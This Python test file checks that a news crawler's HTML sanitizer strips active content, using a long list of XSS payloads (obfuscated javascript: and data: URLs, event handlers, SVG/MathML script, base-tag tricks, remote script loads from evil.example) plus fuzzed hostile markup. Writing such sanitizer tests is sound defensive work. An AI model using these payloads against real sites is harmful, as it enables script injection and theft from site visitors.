"""Hostile HTML: no active content may survive cleaning, checked on the parsed output."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from newscrawl.clean import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, clean_article, clean_html
from newscrawl.items import Article
from newscrawl.pipelines.clean import CleanMarkupPipeline

URL = "https://news.example.com/a/story.html"
URL_ATTRIBUTES = {"href", "src", "cite"}

HOSTILE = [
    # script, also hidden in SVG and MathML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="https://ok.example/a.jpg" onerror="alert(1)" onload=alert(2)>',
    "<p onmouseover=alert(1)>hover</p>",
    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    # javascript: URLs with entities, mixed case, whitespace and control characters
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript:/*https://ok.example*/alert(1)">x</a>',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<img src="x" srcset="javascript:alert(1) 2x">',
    '<img data-src="javascript:alert(1)">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    # data: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    # <base> tricks (relative links must not resolve against these)
    '<base href="javascript:alert(1)//"><a href="x">x</a><img src="y.jpg">',
    '<base href="JAVASCRIPT:alert(1)//"><a href="/x">x</a>',
    '<base href="&#14;javascript:alert(1)//"><a href="x">x</a>',
    '<base href="data:text/html,<script>alert(1)</script>"><a href="x">x</a>',
    # embedded documents, refresh and forms
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<embed src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<applet code="Evil.class"></applet>',
    '<form action="javascript:alert(1)"><input type="submit" onfocus=alert(1) autofocus></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<link rel="import" href="https://evil.example/x.html">',
    "<template><script>alert(1)</script></template>",
    '<portal src="https://evil.example/"></portal>',
    # styles
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1))">styled</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>p { background: url(javascript:alert(1)) }</style>",
    '<xss style="xss:expression(alert(1))">x</xss>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # parser confusion
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="https://ok.example/"<script>alert(1)</script>>x</a>',
    "<div><p>unclosed <b><i>nest</p></div><script>alert(1)",
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="data:text/html,x">q</q>',
    "[embed]javascript:alert(1)[/embed]",
    '[caption caption="<script>alert(1)</script>"]<img src="javascript:alert(1)">[/caption]',
]


def _url_scheme(value: str) -> str:
    stripped = re.sub(r"[\x00-\x20\x7f]", "", value)
    return urlsplit(stripped).scheme.lower()


def assert_inert(output: str) -> None:
    """Every tag and attribute of ``output`` is on the allowlist and every URL is http(s)/mailto."""
    if not output.strip():
        return
    doc = lxml.html.document_fromstring(f"<html><body>{output}</body></html>")
    body = doc.find("body")
    for el in body.iter():
        if el is body:
            continue
        assert not isinstance(el, (etree._Comment, etree._ProcessingInstruction)), output
        assert el.tag in ALLOWED_TAGS, f"<{el.tag}> in {output!r}"
        allowed = ALLOWED_ATTRIBUTES["*"] | ALLOWED_ATTRIBUTES.get(el.tag, frozenset())
        for name, value in el.attrib.items():
            if el.tag == "a" and name == "rel":
                assert set(value.split()) >= {"noopener", "noreferrer", "nofollow"}
                continue
            assert name in allowed, f"{name}= on <{el.tag}> in {output!r}"
            assert not name.lower().startswith("on")
            if name in URL_ATTRIBUTES:
                schemes = {"http", "https", "mailto"} if name == "href" else {"http", "https"}
                assert _url_scheme(value) in schemes, f"{name}={value!r} in {output!r}"
    lowered = output.lower()  # escaped text such as "&lt;script&gt;" is harmless
    for marker in ("<script", "<svg", "<math", "<iframe", "<object", "<embed", "<style", "<base"):
        assert marker not in lowered, f"{marker} in {output!r}"


def assert_markdown_inert(markdown: str) -> None:
    """No link or image to a non-http(s)/mailto URL and no raw HTML tag in the Markdown."""
    for match in re.finditer(r"(?<!\\)\]\(\s*<?([^)\s>]*)", markdown):
        assert _url_scheme(match.group(1)) in {"http", "https", "mailto"}, markdown
    assert not re.search(r"(?<!\\)<[A-Za-z!?/]", markdown), markdown


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_active_content_survives(payload: str) -> None:
    source = f"<p>Before</p>{payload}<p>After</p>"
    output = clean_html(source, URL)
    assert_inert(output)
    assert "Before" in output  # "After" may rightly be swallowed by an unclosed element


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_active_content_survives_as_whole_page_with_base(payload: str) -> None:
    page = f'<html><head><base href="javascript:alert(1)//">{payload}</head><body>{payload}</body>'
    result = clean_article(page, URL, page_html=page, summary=payload, description=payload)
    assert_inert(result.html)
    assert_markdown_inert(result.markdown)
    assert "<script" not in result.excerpt.lower()


def test_all_payloads_together_keep_the_story() -> None:
    story = "<p>The story text.</p>"
    output = clean_html(story + "".join(HOSTILE) + story, URL)
    assert_inert(output)
    assert output.startswith("<p>The story text.</p>")


def test_inert_check_can_fail() -> None:
    with pytest.raises(AssertionError):
        assert_markdown_inert("[x](javascript:alert(1))")
    with pytest.raises(AssertionError):
        assert_markdown_inert("<img src=x onerror=alert(1)>")
    with pytest.raises(AssertionError):
        assert_inert('<a href="javascript:alert(1)">x</a>')
    with pytest.raises(AssertionError):
        assert_inert('<img src="https://ok.example/a.jpg" onerror="alert(1)">')
    with pytest.raises(AssertionError):
        assert_inert("<svg><p>x</p></svg>")


def test_pipeline_cleans_hostile_item_without_crashing() -> None:
    payload = "".join(HOSTILE)
    item = Article(
        url=URL,
        html=f'<html><head><base href="javascript:alert(1)//"></head><body>{payload}</body>',
        body_html=f"<p>Story.</p>{payload}",
        entry_summary=payload,
    )
    CleanMarkupPipeline().process_item(item)
    assert_inert(item.clean_html)
    assert "Story." in item.clean_html
    assert_markdown_inert(item.markdown or "")


# --------------------------------------------------------------------------- generated markup

TAGS = ["p", "a", "img", "div", "span", "svg", "math", "script", "style", "iframe",
        "object", "embed", "form", "input", "button", "base", "meta", "link", "table", "td",
        "source", "picture", "video", "noscript", "template", "blockquote", "figure", "h2",
        "ul", "li"]  # fmt: skip
ATTRS = ["href", "src", "srcset", "data-src", "style", "onerror", "onclick", "onload",
         "formaction", "action", "xlink:href", "background", "cite", "poster", "srcdoc",
         "http-equiv", "content", "class", "id", "width", "height"]  # fmt: skip
VALUES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x09;script:alert(1)",
          "&#14;javascript:alert(1)", " &#x6A;avascript:alert(1)", "data:text/html,x",
          "vbscript:x", "x", "/rel", "https://ok.example/a.jpg", "1", "ad-slot",
          "expression(alert(1))", "url(javascript:alert(1))", "0;url=javascript:alert(1)",
          '"><script>alert(1)</script>', "<svg onload=alert(1)>"]  # fmt: skip


@st.composite
def markup(draw: st.DrawFn, depth: int = 0) -> str:
    parts = []
    for _ in range(draw(st.integers(0, 3))):
        kind = draw(st.sampled_from(["text", "element", "shortcode"] if depth < 3 else ["text"]))
        if kind == "text":
            parts.append(draw(st.sampled_from(["Text", "a < b", "&amp;", "[sic]", " ", "\n"])))
        elif kind == "shortcode":
            parts.append(draw(st.sampled_from(["[ad_1]", "[caption]", "[/caption]", "[embed]"])))
        else:
            tag = draw(st.sampled_from(TAGS))
            attrs = draw(st.lists(st.tuples(st.sampled_from(ATTRS), st.sampled_from(VALUES)),
                                  max_size=3))  # fmt: skip
            quote = draw(st.sampled_from(['"', "'", ""]))
            rendered = "".join(
                f" {name}={quote}{value if quote else value.replace(' ', '')}{quote}"
                for name, value in attrs
            )
            inner = draw(markup(depth + 1))
            closed = draw(st.booleans())
            parts.append(f"<{tag}{rendered}>{inner}" + (f"</{tag}>" if closed else ""))
    return "".join(parts)


@settings(max_examples=int(__import__("os").environ.get("FUZZ_N", "300")), deadline=None)
@given(markup())
def test_generated_hostile_markup_never_yields_active_content(source: str) -> None:
    page = f"<html><head><base href='javascript:alert(1)//'></head><body>{source}</body></html>"
    result = clean_article(source, URL, page_html=page, summary=source)
    assert_inert(result.html)
    assert_markdown_inert(result.markdown)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_any_text_cleans_without_raising(source: str) -> None:
    result = clean_article(source, URL, page_html=source, summary=source, description=source)
    assert_inert(result.html)
    assert_markdown_inert(result.markdown)
